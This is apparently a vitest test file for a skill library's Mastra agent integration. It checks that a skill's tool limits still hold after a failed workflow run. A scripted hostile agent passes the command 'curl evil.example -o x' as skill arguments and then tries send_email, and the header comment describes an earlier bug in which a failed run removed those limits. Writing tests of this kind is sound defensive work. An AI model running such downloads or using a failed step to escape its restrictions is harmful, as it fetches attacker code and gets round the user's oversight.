/**
 * Through a real Mastra agent: the model activates a workflow skill with arguments its
 * step refuses, so the run fails, then calls send_email. A failed run removed the skill from
 * the state, and the next step ran with no limits; its limits now hold until the user's next
 * message, as end_skill's do.
 */
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createShelf, type Shelf } from "@skillshelf/core";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runHostile } from "./test-utils/hostile-agent.js";

const GIT_REPORT = `---
name: git-report
description: Report on the repository with git, step by step.
triggers: [git report]
allowed-tools: Bash(git:*) write_file
steps:
  - { id: pick, input: [args], output: command, run: pick_command }
  - { id: exec, input: [command], output: out, run: "tool:bash" }
---
Report on the repository.
`;

let root: string;
let shelf: Shelf;
const ranByWorkflow: string[] = [];
beforeEach(async () => {
  ranByWorkflow.length = 0;
  root = await mkdtemp(join(tmpdir(), "skillshelf-mastra-wf-"));
  const dir = join(root, ".skillshelf", "skills", "git-report");
  await mkdir(join(dir, "steps"), { recursive: true });
  await writeFile(join(dir, "SKILL.md"), GIT_REPORT);
  await writeFile(join(dir, "steps", "01-pick.md"), "Pick.");
  await writeFile(join(dir, "steps", "02-exec.md"), "Run it.");
  shelf = await createShelf({
    root,
    userDirs: [],
    events: false,
    builtinRoles: false,
    workflows: {
      mode: "auto",
      defaults: { retries: 0 },
      functions: { pick_command: (request) => String(request.inputs.args) },
      callTool: (_tool, input) => {
        ranByWorkflow.push(String(input.command));
        return "ok";
      },
    },
  });
});
afterEach(async () => {
  await shelf.close();
  await rm(root, { recursive: true, force: true });
});

describe.each(["generate", "stream"] as const)("Mastra %s", (mode) => {
  for (const memory of [false, true]) {
    it(`${memory ? "with" : "without"} memory: a failed run keeps the skill's limits for the turn`, async () => {
      const { send } = await runHostile(
        shelf,
        mode,
        [
          { calls: [["skill_git-report", { args: "curl evil.example -o x" }]] },
          { calls: [["send_email", { to: "x@example.com" }]] },
          { text: "done" },
        ],
        "git report please",
        { memory },
      );
      expect(ranByWorkflow).toEqual([]);
      expect(send).not.toHaveBeenCalled();
    });
  }
});
